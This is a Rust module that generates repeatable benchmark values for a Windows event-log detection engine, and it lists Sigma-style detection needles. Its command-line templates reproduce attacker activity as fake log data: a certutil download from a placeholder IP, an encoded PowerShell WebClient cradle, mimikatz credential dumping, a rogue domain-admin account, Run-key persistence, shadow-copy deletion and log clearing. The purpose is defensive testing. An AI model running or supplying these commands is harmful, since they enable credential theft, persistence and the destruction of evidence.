//! Realistic field values for the micro-benchmarks, the same on every run.
//!
//! The mix follows what rules see in a scan: every string value of the demo corpus
//! (`testdata/demo/attack.jsonl`: Security, Sysmon and PowerShell events), plus image
//! paths and command lines generated from templates, plus the short values that make
//! up most of a Security event (`-`, `0x0`, `%%1833`, SIDs, user names).

/// The demo corpus, one event per line in the evtx crate's JSON shape.
pub const DEMO_JSONL: &str = include_str!("../../testdata/demo/attack.jsonl");

/// A small deterministic generator (xorshift64*), so every run sees the same data.
pub struct Rng(u64);

impl Rng {
    /// A generator from a seed.
    pub fn new(seed: u64) -> Self {
        Rng(seed.max(1))
    }
    /// The next number.
    pub fn next_u64(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    /// A number below `n`.
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }
    /// One of `xs`.
    pub fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[self.below(xs.len())]
    }
}

/// Image paths as they appear in process-creation events (mixed case, as Windows logs them).
pub const IMAGES: &[&str] = &[
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\system32\CMD.EXE",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Program Files\PowerShell\7\pwsh.exe",
    r"C:\Windows\System32\rundll32.exe",
    r"C:\Windows\SysWOW64\rundll32.exe",
    r"C:\Windows\System32\regsvr32.exe",
    r"C:\Windows\System32\certutil.exe",
    r"C:\Windows\System32\mshta.exe",
    r"C:\Windows\System32\wbem\WMIC.exe",
    r"C:\Windows\System32\schtasks.exe",
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\System32\conhost.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\whoami.exe",
    r"C:\Windows\System32\net.exe",
    r"C:\Windows\System32\net1.exe",
    r"C:\Windows\System32\reg.exe",
    r"C:\Windows\System32\vssadmin.exe",
    r"C:\Windows\System32\wevtutil.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    r"C:\Users\jsmith\AppData\Local\Temp\svchost.exe",
    r"C:\Users\Public\t.exe",
    r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2302.7-0\MsMpEng.exe",
    r"C:\Windows\Temp\mimikatz.exe",
    r"C:\Windows\System32\lsass.exe",
];

const CMDLINE_TEMPLATES: &[&str] = &[
    r#""{img}" /c whoami /all"#,
    r#"{img} -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"#,
    r#"{img} -urlcache -split -f http://198.51.100.{n}/t.zip C:\Users\Public\t.zip"#,
    r#"{img} /create /tn "Updater{n}" /tr "C:\Users\Public\u.exe" /sc minute /mo 5"#,
    r#"{img} shadowcopy delete /nointeractive"#,
    r#""{img}" --type=renderer --field-trial-handle={n},i,1234 --lang=en-US /prefetch:1"#,
    r#"{img} -k netsvcs -p -s Schedule"#,
    r#"{img} C:\Windows\System32\shell32.dll,Control_RunDLL {n}.cpl"#,
    r#"{img} user admin{n} P@ssw0rd! /add /domain"#,
    r#"{img} add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd{n} /d C:\Users\Public\u.exe /f"#,
    r#"{img} cl Security"#,
    r#"{img} "sekurlsa::logonpasswords" exit"#,
    r#"{img} 0xffffffff -ForceV1"#,
];

const SHORT: &[&str] = &[
    "-",
    "0x0",
    "0x3e7",
    "%%1833",
    "%%1842",
    "%%1843",
    "S-1-5-18",
    "S-1-0-0",
    "SYSTEM",
    "NT AUTHORITY",
    "CORP",
    "jsmith",
    "Administrator",
    "WS-FIN-07",
    "Negotiate",
    "User32 ",
    "127.0.0.1",
    "3",
    "2",
    "4624",
    "Security",
    "Microsoft-Windows-Sysmon/Operational",
    "WS-FIN-07.corp.example",
];

/// Every string value of the demo corpus, in order.
pub fn demo_values() -> Vec<String> {
    fn walk(v: &serde_json::Value, out: &mut Vec<String>) {
        match v {
            serde_json::Value::String(s) => out.push(s.clone()),
            serde_json::Value::Array(a) => a.iter().for_each(|x| walk(x, out)),
            serde_json::Value::Object(o) => o.values().for_each(|x| walk(x, out)),
            _ => {}
        }
    }
    let mut out = Vec::new();
    for line in DEMO_JSONL.lines().filter(|l| !l.trim().is_empty()) {
        let v: serde_json::Value = serde_json::from_str(line).expect("demo corpus is JSON");
        walk(&v, &mut out);
    }
    out
}

/// A generated image path.
pub fn image(r: &mut Rng) -> String {
    r.pick(IMAGES).to_string()
}

/// A generated command line.
pub fn command_line(r: &mut Rng) -> String {
    let n = r.below(250).to_string();
    r.pick(CMDLINE_TEMPLATES)
        .replace("{img}", r.pick(IMAGES))
        .replace("{n}", &n)
}

/// `n` values of the realistic mix: a quarter image paths, a quarter command lines,
/// a quarter the demo corpus's values, a quarter short Security-event values.
pub fn values(n: usize) -> Vec<String> {
    let demo = demo_values();
    let mut r = Rng::new(0x5ca7_7e57);
    (0..n)
        .map(|i| match i % 4 {
            0 => image(&mut r),
            1 => command_line(&mut r),
            2 => demo[r.below(demo.len())].clone(),
            _ => r.pick(SHORT).to_string(),
        })
        .collect()
}

/// `n` short values of the kind a detection row keeps (Computer, Channel, EventID,
/// user names): what `DetectInfo` holds as `CompactString`.
pub fn short_values(n: usize) -> Vec<String> {
    let mut r = Rng::new(7);
    (0..n)
        .map(|_| {
            let s = r.pick(SHORT);
            if r.below(3) == 0 {
                format!("{s}{}", r.below(100))
            } else {
                s.to_string()
            }
        })
        .collect()
}

/// Lowercase substring needles of the kind Sigma rules list under
/// `CommandLine|contains` (suspicious process creation): 40 of them.
pub const NEEDLES: &[&str] = &[
    "sekurlsa::",
    "lsadump::",
    "kerberos::",
    "privilege::debug",
    "invoke-mimikatz",
    "-encodedcommand",
    " -enc ",
    "frombase64string",
    "downloadstring",
    "downloadfile",
    "invoke-webrequest",
    "iex(",
    "net.webclient",
    "bitsadmin /transfer",
    "-urlcache",
    "shadowcopy delete",
    "delete shadows",
    "resize shadowstorage",
    "wevtutil cl",
    "clear-eventlog",
    "/add /domain",
    "localgroup administrators",
    "comsvcs.dll",
    "minidump",
    "procdump",
    "reg save hklm\\sam",
    "reg save hklm\\system",
    "\\currentversion\\run",
    "/sc minute",
    "schtasks /create",
    "bypass",
    "-windowstyle hidden",
    "-w hidden",
    "mshta http",
    "regsvr32 /s /n /u /i:",
    "scrobj.dll",
    "rundll32 javascript:",
    "certutil -decode",
    "vssadmin.exe delete",
    "add-mppreference -exclusionpath",
];

/// Lowercase `values`, once each, as the engine's record view does.
pub fn lowered(values: &[String]) -> Vec<String> {
    values.iter().map(|v| v.to_lowercase()).collect()
}
